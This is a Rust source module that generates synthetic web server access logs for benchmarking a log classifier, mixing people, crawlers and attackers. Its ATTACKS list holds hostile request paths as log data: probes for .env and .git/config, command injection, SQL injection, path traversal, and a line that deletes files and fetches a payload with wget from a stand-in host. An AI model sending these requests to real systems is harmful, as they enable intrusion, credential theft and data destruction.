//! Generates large logs that resemble those of real sites, from a fixed seed.
//!
//! User agents are the samples of the catalogue and many versions of browsers. User agents and terms follow Zipf's law.
//! One in twelve visitors is an attacker, and a third of the others are agents. A visitor makes five requests on
//! average, most of them in a row, as in logs of real sites.

mod chance;
mod form;
mod visitors;

use std::fs::{self, File};
use std::io::{self, Write};
use std::path::Path;

use chance::{Chance, Zipf};
pub(crate) use form::Form;
use guestbook::agents::{Catalogue, Namer};
use guestbook::classify::{Counting, Rules};
use guestbook::pages::{Referrers, RequestRules, TermRules};
use guestbook::trust::Lists;
pub(crate) use visitors::Kind;
use visitors::{Visitor, Visitors};

/// The first second of every log: 2026-04-01 in UTC.
const START: i64 = 1_775_001_600;
const DAYS_DEFAULT: u64 = 30;

const BLOG_PAGES: usize = 900;

/// The paths that attackers request. Each `#` is replaced by a number.
const ATTACKS: [&str; 12] = [
    "/wp-login.php",
    "/.env",
    "/.git/config",
    "/wp-content/plugins/#/readme.txt",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/?s=/index/#/invokefunction&function=call_user_func_array",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id#)",
    "/index.php?id=#%27%20UNION%20SELECT%201,2,3--",
    "/backup-#.zip",
    "/boaform/admin/formLogin?username=admin&psd=#",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.#/jaws",
    "/..%2f..%2f..%2fetc/passwd?#",
];

/// A request with the values that a server logs.
pub(crate) struct Request {
    /// Seconds since the Unix epoch.
    pub(crate) time: i64,
    pub(crate) ip: String,
    pub(crate) method: &'static str,
    /// Path and query.
    pub(crate) target: String,
    pub(crate) status: u16,
    pub(crate) bytes: u64,
    pub(crate) referrer: String,
    pub(crate) user_agent: String,
}

/// A site with random visitors.
pub(crate) struct Site {
    chance: Chance,
    visitors: Visitors,
    terms: Zipf,
    pages: Zipf,
    days: u64,
}

impl Site {
    /// Returns a site with a number of terms. The same number gives the same requests on every machine.
    pub(crate) fn new(terms: usize) -> Site {
        let mut chance = Chance::new(20_260_520);
        let visitors = Visitors::new(&mut chance);
        let (terms, pages) = (Zipf::new(terms), Zipf::new(BLOG_PAGES));
        Site { chance, visitors, terms, pages, days: DAYS_DEFAULT }
    }

    /// Sets the number of days that a log covers.
    pub(crate) fn with_days(self, days: u64) -> Site {
        Site { days, ..self }
    }

    /// Makes each request come from a new visitor. This is the worst case for caches, since no line repeats the values
    /// of the line before it.
    pub(crate) fn of_strangers(self) -> Site {
        Site { visitors: self.visitors.once_each(), ..self }
    }

    /// Returns request number `at` of a log with `total` requests.
    pub(crate) fn request(&mut self, at: u64, total: u64) -> Request {
        let time = START + (at * self.days * 86_400 / total) as i64;
        let visitor = self.visitors.next(&mut self.chance).clone();
        match visitor.kind {
            Kind::Attacker => self.attack(time, visitor),
            Kind::Agent | Kind::Person => self.visit(at, time, visitor),
        }
    }

    /// Returns the user agent of a random visitor.
    pub(crate) fn user_agent(&mut self, kind: Kind) -> &str {
        self.visitors.user_agent(kind, &mut self.chance)
    }

    /// Returns a request for a page, or for another file: robots.txt for agents, scripts for people.
    fn visit(&mut self, at: u64, time: i64, visitor: Visitor) -> Request {
        let is_agent = visitor.kind == Kind::Agent;
        let chance = &mut self.chance;
        let (is_page, target) = match chance.below(22) {
            0..10 => (true, format!("/glossary/term-{}", self.terms.draw(chance))),
            10..18 if !is_agent => {
                (false, format!("/static/{}.{}.js", chance.below(60), chance.below(9)))
            }
            18 if is_agent => (false, "/robots.txt".to_owned()),
            19 => (true, format!("/blog/{}?page={}", self.pages.draw(chance), 1 + at % 9)),
            _ => (true, format!("/blog/{}", self.pages.draw(chance))),
        };
        let previous = visitor.page.as_deref().unwrap_or("/glossary/");
        let referrer = match chance.below(12) {
            _ if is_agent => "-".to_owned(),
            0..2 if is_page => "https://www.google.com/".to_owned(),
            2 if is_page => "https://chatgpt.com/".to_owned(),
            6..12 if is_page => "-".to_owned(),
            _ => format!("https://glossary.example{previous}"),
        };
        let status = match chance.below(20) {
            0 if is_page => 301,
            1..3 if is_page => 304,
            3 if is_page => 404,
            _ => 200,
        };
        if is_page {
            self.visitors.last().page = Some(target.clone());
        }
        Request {
            time,
            ip: visitor.ip,
            method: if chance.below(50) == 0 { "HEAD" } else { "GET" },
            target,
            status,
            bytes: chance.below(60_000),
            referrer,
            user_agent: visitor.user_agent,
        }
    }

    fn attack(&mut self, time: i64, visitor: Visitor) -> Request {
        let chance = &mut self.chance;
        let target = ATTACKS[chance.below(ATTACKS.len() as u64) as usize];
        Request {
            time,
            ip: visitor.ip,
            method: if chance.below(4) == 0 { "POST" } else { "GET" },
            target: target.replace('#', &chance.below(3_000).to_string()),
            status: if chance.below(9) == 0 { 403 } else { 404 },
            bytes: chance.below(2_000),
            referrer: "-".to_owned(),
            user_agent: visitor.user_agent,
        }
    }
}

/// Writes a log with a number of lines, ordered by time.
pub(crate) fn write(form: &Form, path: &Path, lines: u64, mut site: Site) -> io::Result<()> {
    const BUFFER_BYTES: usize = 1 << 20;
    let mut out = File::create(path)?;
    let mut buffer = form.head().to_vec();
    for at in 0..lines {
        form.print(&site.request(at, lines), &mut buffer);
        if buffer.len() > BUFFER_BYTES {
            out.write_all(&buffer)?;
            buffer.clear();
        }
    }
    out.write_all(&buffer)
}

/// Returns the form of a fixture in tests/formats. `None` if there is no such fixture, or if no log can be generated
/// from it.
pub(crate) fn form(name: &str) -> Option<Form> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/formats");
    Form::of(&fs::read(folder.join(format!("{name}.log"))).ok()?)
}

/// Returns the classification rules of all benchmarks.
pub(crate) fn rules() -> Rules {
    Rules {
        namer: Namer::new(Catalogue::with(Vec::new()).expect("the built-in catalogue")),
        terms: TermRules::new(Some("^/glossary/(?<term>[a-z0-9-]+)$")).expect("a pattern"),
        requests: RequestRules::new(&[]).expect("no rules"),
        referrers: Referrers::new(None).expect("no URL"),
        counting: Counting::default(),
        sign: guestbook::agents::Purpose::ALL.to_vec(),
        lists: Lists::default(),
    }
}
